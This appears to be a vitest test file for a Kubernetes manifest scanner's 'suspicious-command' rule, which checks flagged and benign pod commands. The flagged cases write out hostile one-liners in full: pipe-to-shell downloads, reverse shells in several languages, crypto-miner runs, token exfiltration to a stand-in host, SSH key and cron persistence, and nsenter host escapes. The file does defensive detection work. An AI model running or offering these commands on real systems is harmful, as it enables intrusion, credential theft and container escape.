import { describe, expect, it } from 'vitest';
import { see } from '../analyse';
import { IMAGE, podOf, podRunning } from '../manifests';

const inShell = (script: string): string[] =>
  see(podRunning(['sh', '-c', script]), 'suspicious-command').map(({ severity }) => severity);
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

describe('suspicious-command finds', () => {
  it.each([
    ['curl -fsSL https://e.example/x.sh | sh'],
    ['wget -qO- https://e.example/x.sh | sudo bash -s -- --yes'],
    ['curl https://e.example/x.py | python3'],
    ['curl https://e.example/x.py | python3 -'],
    ['curl https://e.example/x | tee /tmp/x | bash'],
    ['bash -c "$(curl -fsSL https://e.example/x.sh)"'],
    ['bash <(curl -s https://e.example/x.sh)'],
    ['eval "$(wget -qO- https://e.example/x)"'],
    ['busybox wget -qO- http://e.example/x | sh'],
    ['cat <<EOF | sh\ncurl http://e.example/x | sh\nEOF'],
    ['echo aGkK | base64 -d | sh'],
    ['echo aGkK | base64 --decode | bash -s'],
    ['eval $(echo aGkK | base64 -d)'],
    ['python3 -c "import base64; exec(base64.b64decode(\'aGk=\'))"'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ['exec 5<>/dev/tcp/10.0.0.1/4444'],
    ['nc -e /bin/sh 10.0.0.1 4444'],
    ['ncat 10.0.0.1 4444 --exec /bin/bash'],
    ['rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f'],
    ['socat exec:"bash -li",pty tcp:10.0.0.1:4444'],
    [`python3 -c 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0);subprocess.call(["/bin/sh"])'`],
    [`perl -e 'use Socket;exec("/bin/sh -i");'`],
    [`php -r '$s=fsockopen("10.0.0.1",1);exec("/bin/sh -i <&3 >&3");'`],
    [`ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",1);exec "/bin/sh -i"'`],
    ['/tmp/xmrig -o pool.example.com:3333'],
    ['./x -o stratum+tcp://pool.example.com:3333'],
    ['worker --donate-level 1'],
    [`cat ${TOKEN} | curl -d @- https://e.example`],
    [`curl -H "X: $(cat ${TOKEN})" https://e.example`],
    ['echo "* * * * * x" > /etc/cron.d/x'],
    ['echo key >> /root/.ssh/authorized_keys'],
    ['echo key | tee -a /host/root/.ssh/authorized_keys'],
    ['nsenter -t 1 -m -u -i -n -p -- sh'],
    ['nsenter --target 1 --mount sh'],
    ['nsenter --target=1 --mount sh'],
    ['chroot /host /bin/bash'],
    ['curl${IFS}https://e.example/x${IFS}|${IFS}sh'],
  ])('%s', (script) => {
    expect(inShell(script)).toEqual(['error']);
  });
});

describe('suspicious-command leaves alone', () => {
  it.each([
    ['# curl https://e.example | sh'],
    ['echo "run: curl https://e.example | sh"'],
    ['curl -fsS http://localhost:8080/health || exit 1'],
    ['curl -s http://api/x | jq .name'],
    ['curl -s http://api/x | python3 -m json.tool'],
    ['curl -s http://api/x | python3 -c "import json,sys; print(json.load(sys.stdin))"'],
    ['curl -s http://api/x | grep sh'],
    ['curl -o /tmp/x.tar.gz https://e.example/x.tar.gz && tar xf /tmp/x.tar.gz'],
    ['wget -qO- http://api/config | sh /opt/apply.sh'],
    ['until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done'],
    ['timeout 1 bash -c "</dev/tcp/db/5432"'],
    ["timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'"],
    ['nc -z db 5432'],
    ['nc -zv -w 1 db 5432'],
    ['echo ruok | nc localhost 2181'],
    ['nc -lk -p 8080 -e echo'],
    ['echo aGkK | base64 -d > /tmp/cert.pem'],
    ['base64 -d /secret/x | openssl pkcs12 -import'],
    [`curl --cacert /ca -H "Authorization: Bearer $(cat ${TOKEN})" https://kubernetes.default.svc/api`],
    [`curl -H "Authorization: Bearer $(cat ${TOKEN})" https://$KUBERNETES_SERVICE_HOST/api`],
    [`TOKEN=$(cat ${TOKEN}); kubectl get pods`],
    ['nsenter --net=/var/run/netns/x ip a'],
    ['nsenter -t 12345 -n ip a'],
    ['chroot /srv/jail httpd'],
    ['cat /etc/cron.d/x'],
    ['mineral --pool data'],
    ['constructor; toString; __proto__ install'],
    ['psql -c "create table x"'],
    ['sh -c "sleep 5"'],
    ['python3 -c "import socket; socket.create_connection((\'db\', 5432))"'],
  ])('%s', (script) => {
    expect(inShell(script)).toEqual([]);
  });
});

describe('suspicious-command', () => {
  it('is milder about what is sometimes meant', () => {
    expect(inShell('apt-get update && apt-get install -y curl')).toEqual(['information']);
    expect(inShell('apk add --no-cache jq')).toEqual(['information']);
    expect(inShell('pip install -r x.txt')).toEqual(['information']);
    expect(inShell('npm install')).toEqual(['information']);
    expect(inShell('curl http://169.254.169.254/latest/meta-data/')).toEqual(['information']);
    expect(inShell('apt-get update')).toEqual([]);
  });

  it('takes asking for the credentials of the node more seriously in a sidecar', () => {
    const text = podOf(`containers:
- { name: web, image: "${IMAGE}" }
- { name: log-agent, image: "${IMAGE}", command: [curl, "http://169.254.169.254/latest/"] }
`);
    expect(see(text, 'suspicious-command').map(({ severity }) => severity)).toEqual(['warning']);
  });

  it('knows that DaemonSets tune nodes', () => {
    const pod = podRunning(['nsenter', '-t', '1', '-m', 'sh']);
    const set = `apiVersion: apps/v1\nkind: DaemonSet\nmetadata: { name: x }\nspec:\n  template:\n${pod.slice(pod.indexOf('spec:')).replace(/^/gm, '    ')}`;
    expect(see(pod, 'suspicious-command').map(({ severity }) => severity)).toEqual(['error']);
    expect(see(set, 'suspicious-command').map(({ severity }) => severity)).toEqual(['warning']);
  });

  it.each([
    ['postStart', 'lifecycle: { postStart: { exec: { command: [sh, -c, "curl http://e.example | sh"] } } }'],
    ['preStop', 'lifecycle: { preStop: { exec: { command: [sh, -c, "curl http://e.example | sh"] } } }'],
    ['a liveness probe', 'livenessProbe: { exec: { command: [sh, -c, "curl http://e.example | sh"] } }'],
    ['a readiness probe', 'readinessProbe: { exec: { command: [sh, -c, "curl http://e.example | sh"] } }'],
    ['a startup probe', 'startupProbe: { exec: { command: [sh, -c, "curl http://e.example | sh"] } }'],
    ['args', 'command: [sh]\n  args: [-c, "curl http://e.example | sh"]'],
  ])('looks into %s', (_, entry) => {
    const seen = see(podOf(`containers:\n- name: web\n  image: ${IMAGE}\n  ${entry}\n`), 'suspicious-command');
    expect(seen.map(({ text }) => text)).toEqual(['curl http://e.example | sh']);
  });

  it.each(['initContainers', 'containers', 'ephemeralContainers'])('looks into %s', (list) => {
    const text = podOf(`${list}:\n- { name: a, image: "${IMAGE}", command: [nc, -e, /bin/sh, x] }\n`);
    expect(see(text, 'suspicious-command').map(({ container }) => container)).toEqual(['a']);
  });

  it('underlines the words on their own line of a script', () => {
    const text = podOf(
      `containers:\n- name: web\n  image: ${IMAGE}\n  command:\n  - sh\n  - -c\n  - |\n    echo hello\n    curl http://e.example/x | sh -e\n    echo done\n`,
    );
    const [seen] = see(text, 'suspicious-command');
    expect(seen?.text).toBe('curl http://e.example/x | sh -e');
    expect(seen?.line).toBe(text.split('\n').findIndex((line) => line.includes('curl')) + 1);
  });

  it('says one thing of a container, the worst', () => {
    const seen = see(
      podRunning(['sh', '-c', 'apk add curl; curl http://e.example | sh; nc -e sh x']),
      'suspicious-command',
    );
    expect(seen.map(({ severity }) => severity)).toEqual(['error']);
  });

  it("finds a miner's image", () => {
    expect(
      see(podOf('containers:\n- { name: web, image: "docker.io/x/xmrig:6" }\n'), 'suspicious-command').map(
        ({ text }) => text,
      ),
    ).toEqual(['"docker.io/x/xmrig:6"']);
  });
});
